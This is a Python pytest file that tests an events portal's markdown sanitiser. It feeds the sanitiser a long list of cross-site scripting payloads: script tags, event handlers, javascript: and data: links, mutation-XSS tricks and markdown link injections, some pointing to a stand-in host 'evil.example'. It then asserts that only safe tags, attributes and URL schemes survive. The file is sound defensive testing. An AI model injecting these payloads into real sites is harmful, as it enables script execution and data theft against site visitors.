"""Markdown from staff is cleaned at every display."""

import re

import pytest
from lxml import html

from events.templatetags.portal import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, markdown

pytestmark = pytest.mark.once

VECTORS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<<script>script>alert(1)<</script>/script>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="https://evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv="refresh" content="0;url=//evil.example">
<style>body{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">x</div>
<p onclick="alert(1)" style="color:red" class="x" id="fel">x</p>
<a href="javascript:alert(1)">x</a>
<a href=" java\tscript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="x" onmouseover="alert(1)" target="_blank" ping="//evil.example">x</a>
<form action="//evil.example"><button formaction="javascript:alert(1)">x</button></form>
<input onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<textarea><img src="</textarea><img src=x onerror=alert(1)>">
<title><img src="</title><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<xmp><img src="</xmp><img src=x onerror=alert(1)>">
[x](javascript:alert(1))
[x](  JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:msgbox(1))
[x](<javascript:alert(1)>)
![x](javascript:alert(1))
![x" onerror="alert(1)](x)
[x]("onmouseover="alert(1))
[a]: javascript:alert(1)
<javascript:alert(1)>
**<img src=x onerror=alert(1)>**
`<script>alert(1)</script>`
""".strip().splitlines()


@pytest.mark.parametrize("vector", VECTORS)
def test_only_harmless_elements_attributes_and_addresses_are_left(vector):
    document = html.fragment_fromstring(markdown(vector), create_parent="main")

    for element in list(document.iter())[1:]:
        assert element.tag in ALLOWED_TAGS
        assert set(element.attrib) <= ALLOWED_ATTRIBUTES.get(element.tag, set()) | {"rel"}
        # As browsers read an address: without blanks around it, tabs or line breaks in it.
        address = re.sub(r"[\t\r\n]", "", element.get("href", "")).strip().lower()
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", address)
        assert scheme is None or scheme[1] in {"http", "https", "mailto", "tel"}


def test_cleaning_what_is_clean_changes_nothing():
    once = markdown("\n\n".join(VECTORS))

    assert markdown(once).replace("\n", "") == once.replace("\n", "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("**fet** och *kursiv*", "<p><strong>fet</strong> och <em>kursiv</em></p>"),
        ("- ett\n- två", "<ul>\n<li>ett</li>\n<li>två</li>\n</ul>"),
        ("1. ett\n2. två", "<ol>\n<li>ett</li>\n<li>två</li>\n</ol>"),
        ("### Rubrik", "<h3>Rubrik</h3>"),
        (
            "[MFD](https://www.mfd.se/)",
            '<p><a href="https://www.mfd.se/" rel="noopener">MFD</a></p>',
        ),
        ('<p lang="fi">Tervetuloa</p>', '<p lang="fi">Tervetuloa</p>'),
        ("3 < 5 & 7 > 2", "<p>3 &lt; 5 &amp; 7 &gt; 2</p>"),
        ("Hej 🦊 å\xa0ä", "<p>Hej 🦊 å&nbsp;ä</p>"),
    ],
)
def test_what_staff_may_write_is_shown(text, shown):
    assert markdown(text) == shown


def test_texts_nested_without_end_are_still_answered():
    assert "x" in markdown("> " * 2000 + "x")
